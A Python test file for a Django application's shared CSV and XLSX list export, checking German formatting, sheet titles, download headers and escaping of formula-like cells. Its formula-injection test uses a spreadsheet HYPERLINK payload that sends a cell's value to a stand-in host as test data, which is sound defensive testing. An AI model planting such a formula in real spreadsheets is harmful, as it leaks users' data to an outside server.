"""The shared list export (web/tables.py): one CSV and XLSX format for every list of the application."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest
from django.http import Http404

from missimo.core import tables

FORMULA = '=HYPERLINK("https://example.invalid/?d="&A1;"Klick")'


def test_csv_is_utf8_with_bom_semicolons_crlf_german_dates_and_empty_none():
    content = tables.csv_bytes(
        ["Name", "Tag", "Betrag", "leer"], [["Müller", dt.date(2026, 3, 4), Decimal("255.50"), None]]
    )
    assert content.startswith(b"\xef\xbb\xbf")
    assert content.decode("utf-8-sig") == "Name;Tag;Betrag;leer\r\nMüller;04.03.2026;255,50;\r\n"


@pytest.mark.parametrize("text", [FORMULA, "+1", "-1", "@SUM(A1)", "\tx"])
def test_text_that_looks_like_a_formula_is_prefixed_with_an_apostrophe_in_csv_and_xlsx(text):
    text_rows = csv.reader(io.StringIO(tables.csv_bytes(["A"], [[text]]).decode("utf-8-sig")), delimiter=";")
    assert list(text_rows)[1] == ["'" + text]
    sheet = openpyxl.load_workbook(io.BytesIO(tables.xlsx_bytes(["A"], [[text]], "Liste"))).active
    assert sheet["A2"].value == "'" + text and sheet["A2"].data_type == "s"


def test_xlsx_keeps_numbers_and_dates_as_values_under_a_bold_header():
    content = tables.xlsx_bytes(["Nr.", "Tag"], [[7, dt.date(2026, 3, 4)]], "Prüf/liste: [alle]")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet.title == "Prüfliste alle" and sheet["A1"].font.bold
    assert sheet["A2"].value == 7 and sheet["B2"].value == dt.datetime(2026, 3, 4)
    assert sheet["B2"].number_format == "dd.mm.yyyy"


def test_a_download_names_its_file_and_type_and_other_formats_are_not_found():
    response = tables.download(b"x", "hinweise", "csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="hinweise.csv"'
    xlsx = tables.download(b"x", "hinweise", "xlsx")
    assert xlsx["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    with pytest.raises(Http404):
        tables.download(b"x", "hinweise", "pdf")
